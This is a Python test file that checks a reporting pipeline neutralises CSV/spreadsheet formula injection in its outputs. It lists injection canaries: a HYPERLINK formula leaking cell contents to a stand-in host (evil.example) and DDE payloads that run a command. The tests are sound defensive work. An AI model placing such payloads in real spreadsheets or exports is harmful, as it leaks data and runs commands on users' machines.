"""Adversarial: hostile text in the inputs never becomes live HTML or a live formula.

Canaries (``<img src=x onerror=...>``, ``<script>``, ``javascript:`` links,
Markdown links and images, attribute break-outs, spreadsheet formulas) are put
into every place text enters the project: the params (title, stage, group
labels, indicator labels, claim texts), the XLSForm codebook (question and
choice labels, the form title), the raw answers (free text, enumerator names),
the reach export (post titles) and column names. The real pipeline then runs
and the HTML is parsed: no element or attribute coming from a canary may be
live. Every CSV the project writes is checked for cells that a spreadsheet
would run as a formula.
"""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from evalkit.atomic import neutralise_formula, write_csv_atomic

#: Text a spreadsheet (Excel, LibreOffice, Google Sheets) treats as a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

FORMULA_CANARIES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "-",
    "+",
]


def is_number(text: str) -> bool:
    """True for a cell a spreadsheet reads as a plain number (``-3.2``, ``1e-05``)."""
    try:
        return not math.isnan(float(text)) or text.strip().lower() == "nan"
    except ValueError:
        return False


def live_formula_cells(csv_text: str) -> list[tuple[int, int, str]]:
    """(row, column, value) of every cell, header included, that would run as a formula."""
    bad = []
    for r, row in enumerate(csv.reader(io.StringIO(csv_text))):
        for c, cell in enumerate(row):
            if cell.startswith(FORMULA_START) and not is_number(cell):
                bad.append((r, c, cell))
    return bad


@pytest.mark.parametrize("canary", FORMULA_CANARIES)
def test_formula_canary_in_a_text_cell_is_neutralised(tmp_path, canary):
    df = pd.DataFrame({"label": [canary, "ok"], "change_pp": [-3.5, 2.0]})
    text = write_csv_atomic(df, tmp_path / "r.csv").read_text(encoding="utf-8")
    assert live_formula_cells(text) == []
    back = pd.read_csv(tmp_path / "r.csv")
    assert back["label"].iloc[0] == "'" + canary.replace("\r", "\n") or back["label"].iloc[0].startswith("'")
    assert back["change_pp"].tolist() == [-3.5, 2.0], "negative numbers must stay numbers"


@pytest.mark.parametrize("dtype", ["object", "string", "category"])
def test_formula_canaries_in_every_text_dtype(tmp_path, dtype):
    df = pd.DataFrame({"text": pd.Series(FORMULA_CANARIES, dtype=dtype), "n": range(len(FORMULA_CANARIES))})
    text = write_csv_atomic(df, tmp_path / "r.csv").read_text(encoding="utf-8")
    assert live_formula_cells(text) == []


def test_formula_canary_in_a_column_name_and_mixed_column(tmp_path):
    df = pd.DataFrame({"=HYPERLINK(\"x\")": ["a"], "mixed": pd.Series(["=1+1"], dtype=object), "@who": [1]})
    text = write_csv_atomic(df, tmp_path / "r.csv").read_text(encoding="utf-8")
    assert live_formula_cells(text) == []


def test_numbers_written_as_text_stay_readable(tmp_path):
    df = pd.DataFrame({"value": pd.Series(["-3.2", "+4", "12"], dtype="string")})
    back = pd.read_csv(write_csv_atomic(df, tmp_path / "r.csv"), dtype=str)
    # neutralised or not, nothing here can run; the reader can still see the number
    assert [v.lstrip("'") for v in back["value"]] == ["-3.2", "+4", "12"]


def test_neutralise_formula_leaves_safe_values_alone():
    for v in ["agree", "Сайн", "", " =1", "1-2", 3, -3.5, None]:
        assert neutralise_formula(v) == v
